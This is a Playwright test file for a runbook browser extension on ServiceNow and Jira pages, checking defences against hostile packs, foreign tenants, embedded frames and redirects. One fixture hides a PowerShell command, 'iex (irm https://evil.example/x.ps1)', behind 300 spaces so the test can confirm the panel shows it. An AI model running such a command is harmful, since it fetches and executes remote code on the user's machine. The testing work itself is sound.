import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { E2E_EXTENSION } from '../server/launch-chromium';
import { sampleRunbook } from '../library/sample-runbook';
import { expect, HOSTS, panel, test } from './fixtures';
import { importAcmePack, nameOrgSites, openOptions, packItem } from './pages/options';
import { acmePack, jsonFile, PACK_NAME } from './pages/packs';
import { startPackServer } from '../server/pack-server';

// What a pack, a foreign tenant or another page can make the extension do (trust issue #14), on the
// built extension.

const VPN = '57af7aec73d423002728660c4cf6a71c';
/** "Request for a second monitor arm for the reception desk": the Acme pack's desk runbook fits it. */
const MONITOR_ARM = '46d44a5dc0a8010e0004a8f7a4d4e1a5';
/** Same fixture server, another organization's tenant name (the resolver maps every *.service-now.com). */
const FOREIGN = 'globex.service-now.com';

async function open(page: Page, origin: string, sysId = VPN): Promise<void> {
  await page.goto(`${origin}/incident.do?sys_id=${sysId}`);
  await expect(panel(page).getByTestId('ticket-text')).toBeVisible();
}

test('no web-accessible resource: a site cannot probe for the extension, and the panel is still styled', async ({
  context,
  page,
  server,
  extensionId,
}) => {
  const manifest = JSON.parse(readFileSync(join(E2E_EXTENSION, 'manifest.json'), 'utf8')) as Record<string, unknown>;
  expect(manifest.web_accessible_resources).toBeUndefined();
  await open(page, server.origin(HOSTS.servicenow));
  // What a fingerprinting script does: load a known file of the extension and see whether it answers.
  // (In a page of its own: the refused load logs an error that the test page's fixture would count.)
  const prober = await context.newPage();
  await prober.goto(`${server.origin(HOSTS.servicenow)}/incident_list.do`);
  const loads = await prober.evaluate(
    (url) =>
      new Promise<boolean>((resolve) => {
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        link.href = url;
        link.onload = () => resolve(true);
        link.onerror = () => resolve(false);
        document.head.append(link);
      }),
    `chrome-extension://${extensionId}/content-scripts/panel.css`,
  );
  expect(loads).toBe(false);
  await prober.close();
  // The stylesheet is in the shadow root: the panel is docked (position fixed), not unstyled page flow.
  expect(await panel(page).evaluate((el) => getComputedStyle(el).position)).toBe('fixed');
});

test("with the organization's sites set, the panel runs on them and not on another tenant", async ({
  context,
  extensionId,
  page,
  server,
}) => {
  // Not set: every tenant, as before.
  await open(page, server.origin(FOREIGN));
  const options = await openOptions(context, extensionId);
  await options.getByTestId('org-sites').fill(`${HOSTS.servicenow}\n*.${HOSTS.jira}`);
  await options.getByTestId('org-sites-save').click();
  await expect(options.getByTestId('org-sites-status')).toContainText('only on 2 site(s)');

  // The open foreign page loses its panel at once; a reload brings none.
  await expect(page.locator('runbook-lens').getByTestId('panel')).toHaveCount(0);
  await page.reload();
  await page.waitForTimeout(1500);
  await expect(page.locator('runbook-lens')).toHaveCount(0);
  await open(page, server.origin(HOSTS.servicenow));

  // A bad entry is refused whole, with the reason; the saved list stays.
  await options.getByTestId('org-sites').fill('*.com');
  await options.getByTestId('org-sites-save').click();
  await expect(options.getByTestId('org-sites-status')).toContainText('Not saved');
  await options.reload();
  await expect(options.getByTestId('org-sites')).toHaveValue(`${HOSTS.servicenow}\n*.${HOSTS.jira}`);
});

test("pack runbooks show only on the organization's sites; unset, the panel shows the bundled ones", async ({
  context,
  extensionId,
  page,
  server,
}) => {
  const options = await openOptions(context, extensionId);
  await importAcmePack(options);
  await expect(options.getByTestId('org-sites-unset')).toBeVisible();
  // The pack's desk runbook is what this request needs; on a tenant not named as the organization's,
  // neither search nor the page can find it or the pack's name.
  await open(page, server.origin(HOSTS.servicenow), MONITOR_ARM);
  const p = panel(page);
  await expect(p.getByTestId('no-match')).toBeVisible();
  await p.getByTestId('search').fill('monitor arm reception');
  // The search ran (over the bundled runbooks: a result or the empty state), and the pack's is not among them.
  await expect(p.getByTestId('search-result').or(p.getByTestId('search-empty')).first()).toBeVisible();
  await expect(p.locator('[data-testid="search-result"][data-runbook-id="acme-desk-equipment"]')).toHaveCount(0);
  await expect(page.locator('runbook-lens')).not.toContainText(PACK_NAME);

  await nameOrgSites(options);
  await page.bringToFront();
  // Named: the same open panel now has the pack (no reload).
  const result = p.locator('[data-testid="search-result"][data-runbook-id="acme-desk-equipment"]');
  await expect(result).toHaveCount(1);
  await result.click();
  await expect(p.getByTestId('runbook-source')).toHaveText(`Pack: ${PACK_NAME}`);
});

test('tree answers and votes stay with the tenant; "Forget stored ticket data" clears them', async ({
  context,
  extensionId,
  page,
  server,
}) => {
  const ours = server.origin(HOSTS.servicenow);
  await open(page, ours);
  const p = panel(page);
  await p.getByTestId('tree-option').filter({ hasText: 'Yes' }).click();
  await expect(p.getByTestId('tree-back')).toBeEnabled();
  await p.getByTestId('helpful-yes').click();
  await expect(p.getByTestId('helpful-yes')).toHaveAttribute('aria-pressed', 'true');

  // The same ticket number on another tenant is another ticket.
  await open(page, server.origin(FOREIGN));
  // No answer there: the tree's actions wait for a first one (#15).
  await expect(p.getByTestId('tree-option').first()).toBeVisible();
  await expect(p.getByTestId('tree-back')).toHaveCount(0);
  await expect(p.getByTestId('helpful-yes')).toHaveAttribute('aria-pressed', 'false');

  await open(page, ours);
  await expect(p.getByTestId('tree-back')).toBeEnabled();
  await expect(p.getByTestId('helpful-yes')).toHaveAttribute('aria-pressed', 'true');

  const options = await openOptions(context, extensionId);
  await options.getByTestId('forget-ticket-data').click();
  await expect(options.getByTestId('forget-ticket-data-status')).toHaveText(
    // Tree answer, vote, and the two tickets' knowledge-gap records (learning keeps them per ticket too).
    'Forgot 4 stored ticket entries (tree answers, votes, learned examples and gap records).',
  );
  await page.bringToFront();
  await expect(p.getByTestId('helpful-yes')).toHaveAttribute('aria-pressed', 'false');
  await page.reload();
  await expect(p.getByTestId('ticket-text')).toBeVisible();
  await expect(p.getByTestId('tree-option').first()).toBeVisible();
  await expect(p.getByTestId('tree-back')).toHaveCount(0);
});

test('a command cannot hide its end: 300 spaces then more code wrap into sight', async ({
  context,
  extensionId,
  page,
  server,
}) => {
  const runbook = sampleRunbook({
    id: 'acme-hidden-tail',
    title: 'Hidden tail (Acme)',
    related: [],
    relatedQueries: ['quokka problem', 'quokka issue', 'quokka broken'],
  });
  runbook.tree.nodes.q3!.options[1] = { label: 'No', outcome: { type: 'resolved', step: 'fix' } };
  runbook.commands![0]!.code = `Get-Date${' '.repeat(300)}; iex (irm https://evil.example/x.ps1)`;
  const options = await openOptions(context, extensionId);
  await nameOrgSites(options);
  await options
    .getByTestId('pack-file')
    .setInputFiles(jsonFile('tail.json', { schemaVersion: 1, name: 'Tail', runbooks: [runbook] }));
  await options.getByTestId('pack-confirm').click();
  await expect(packItem(options, 'Tail')).toBeVisible();

  await open(page, server.origin(HOSTS.servicenow));
  await page.bringToFront();
  const p = panel(page);
  await p.getByTestId('search').fill('quokka');
  await p.locator('[data-testid="search-result"][data-runbook-id="acme-hidden-tail"]').click();
  const pre = p.getByTestId('command').first().locator('pre');
  await pre.scrollIntoViewIfNeeded();
  const box = await pre.evaluate((el) => {
    const range = document.createRange();
    // The text node holding the tail (each command line is its own block, #15).
    const walker = document.createTreeWalker(el, NodeFilter.SHOW_TEXT);
    let text = walker.nextNode()!;
    while (!text.textContent!.includes('iex')) text = walker.nextNode()!;
    const at = text.textContent!.indexOf('iex');
    range.setStart(text, at);
    range.setEnd(text, at + 3);
    const tail = range.getBoundingClientRect();
    const outer = el.getBoundingClientRect();
    return {
      scrolls: el.scrollWidth > el.clientWidth,
      inside: tail.left >= outer.left && tail.right <= outer.right && tail.bottom <= outer.bottom,
    };
  });
  expect(box).toEqual({ scrolls: false, inside: true });
});

test("a frame from another tenant embedded in the page never becomes the panel's ticket", async ({ page, server }) => {
  // Our tenant's UI16 shell with another organization's incident form in gsft_main (any page can
  // frame one): its reader runs there and reports, as a same-origin gsft_main does.
  const foreignForm = `${server.origin(FOREIGN)}/incident.do?sys_id=${VPN}`;
  await page.goto(`${server.origin(HOSTS.servicenow)}/nav_to.do?uri=${encodeURIComponent(foreignForm)}`);
  const foreign = page.frame({ name: 'gsft_main' })!;
  await expect(foreign.locator('#incident\\.short_description')).toBeVisible();
  // The panel's host is up (it has asked every frame to report again); give the reports time to arrive.
  await expect(page.locator('runbook-lens')).toHaveCount(1, { timeout: 20_000 });
  await page.waitForTimeout(3000);
  // The panel (top frame, our origin) takes no ticket from it: no panel, nothing to insert into.
  await expect(page.locator('runbook-lens').getByTestId('panel')).toHaveCount(0);
  // The same form on our own tenant in gsft_main is the ticket, as before.
  const ownForm = `/incident.do?sys_id=${VPN}`;
  await page.goto(`${server.origin(HOSTS.servicenow)}/nav_to.do?uri=${encodeURIComponent(ownForm)}`);
  await expect(panel(page).getByTestId('ticket-text')).toBeVisible();
});

test('a pack URL that redirects is refused, even back to https on the same host', async ({ context, extensionId }) => {
  const packs = await startPackServer(HOSTS.packs);
  try {
    packs.set('/acme.json', JSON.stringify(acmePack()));
    // https → http → https: each hop is invisible to fetch once followed.
    packs.redirect('/moved.json', `http://${HOSTS.packs}:${packs.port}/hop.json`);
    packs.redirect('/hop.json', packs.url('/acme.json'));
    const options = await openOptions(context, extensionId);
    await options.getByTestId('pack-url').fill(packs.url('/moved.json'));
    await options.getByTestId('pack-subscribe').click();
    await expect(options.getByTestId('pack-error').locator('td').nth(2)).toHaveText(
      'redirects to another address; subscribe to the https:// address the pack is served from',
    );
    expect(packs.requests.map((r) => r.path)).toEqual(['/moved.json']);
    await expect(packItem(options, PACK_NAME)).toHaveCount(0);
  } finally {
    await packs.close();
  }
});
